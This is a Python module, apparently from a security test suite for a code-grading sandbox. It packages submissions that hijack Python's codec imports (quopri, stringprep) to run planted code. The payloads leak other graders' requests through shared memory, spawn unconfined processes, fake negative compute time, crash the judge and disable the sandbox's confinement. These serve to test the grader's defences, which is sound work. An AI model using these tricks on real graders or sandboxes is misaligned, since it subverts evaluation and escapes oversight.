"""Modules named like those that Python imports to read a file, for whoever reads the submission.

A file that names a codec in its first line has Python import that codec's module, and so one of the
submission's, if it is on the path: in the worker that is the student's own affair. In a template
everything that is forked later would be in the student's hands.
"""

from collections.abc import Callable
from pathlib import Path

from attacks.arsenal.attack import Attack
from attacks.traces import MARK

# Whoever is forked from the process that imports this tells what another such process was asked.
SHARED_WITH_FORKS = """
import mmap, os, struct
from gradus_checks import host
_shared = mmap.mmap(-1, 2**16)
_handle = host.Host.handle
def _telling(self, request):
    process, size = struct.unpack('<qq', _shared[:16])
    if size and process != os.getpid():
        print('LOOTED', _shared[16 : 16 + size])
    told = repr(request).encode()[:5000]
    _shared[:16], _shared[16 : 16 + len(told)] = struct.pack('<qq', os.getpid(), len(told)), told
    return _handle(self, request)
host.Host.handle = _telling
"""

A_PROCESS = f"""
import os, time
try:
    if os.fork() == 0:
        time.sleep(30)
        os._exit(0)
    print('LOOTED', 'a process')
    open('/dev/shm/{MARK}', 'w')
except OSError:
    pass
"""

LESS_THAN_NO_TIME = """
from gradus.worker import orders
orders._end = lambda pid, patience: [0, -1e6]
"""

NO_ANSWERS = """
from gradus.worker import orders
orders._end = lambda pid, patience: [[], 'no number']
orders._fork = lambda *args: -1
"""

UNLIMITED = """
import os
from gradus.worker import child
child.impose = child.shut_in = lambda *args: os.write(1, b'LOOTED a worker that is not shut in')
"""


def _named(codec: str, module: str, text: str) -> Callable[[Path, str], Path]:
    def pack(folder: Path, source: str) -> Path:
        folder.mkdir()
        (folder / "losses.py").write_text(f"# -*- coding: {codec} -*-\n{source}", "utf-8")
        (folder / f"{module}.py").write_text(text, "utf-8")
        return folder

    return pack


def _beside(module: str, codec: str, text: str) -> Callable[[Path, str], Path]:
    """The module that is graded is an honest one; a file beside it names the codec."""

    def pack(folder: Path, source: str) -> Path:
        folder.mkdir()
        (folder / "losses.py").write_text(source, "utf-8")
        (folder / "aaa.py").write_text(f"# coding: {codec}\n", "utf-8")
        (folder / f"{module}.py").write_text(text, "utf-8")
        return folder

    return pack


_TRICKS = {
    "shared-with-forks": ("hidden inputs in a public message", SHARED_WITH_FORKS),
    "a-process": ("a process that nothing confines", A_PROCESS),
    "less-than-no-time": ("computing time that is given back", LESS_THAN_NO_TIME),
    "no-answers": ("a judge that ends with a traceback", NO_ANSWERS),
    "unlimited": ("workers that are not shut in", UNLIMITED),
}

attacks = (
    *(
        Attack(
            f"{name}-by-quopri",
            hope,
            pack=_named("quopri", "quopri", text),
            costs=True,
            unreadable=True,
        )
        for name, (hope, text) in _TRICKS.items()
    ),
    *(
        Attack(f"{name}-by-idna", hope, pack=_named("idna", "stringprep", text), costs=True)
        for name, (hope, text) in _TRICKS.items()
    ),
    *(
        Attack(f"{name}-from-a-file-beside", hope, pack=_beside("quopri", "quopri", text))
        for name, (hope, text) in _TRICKS.items()
    ),
)
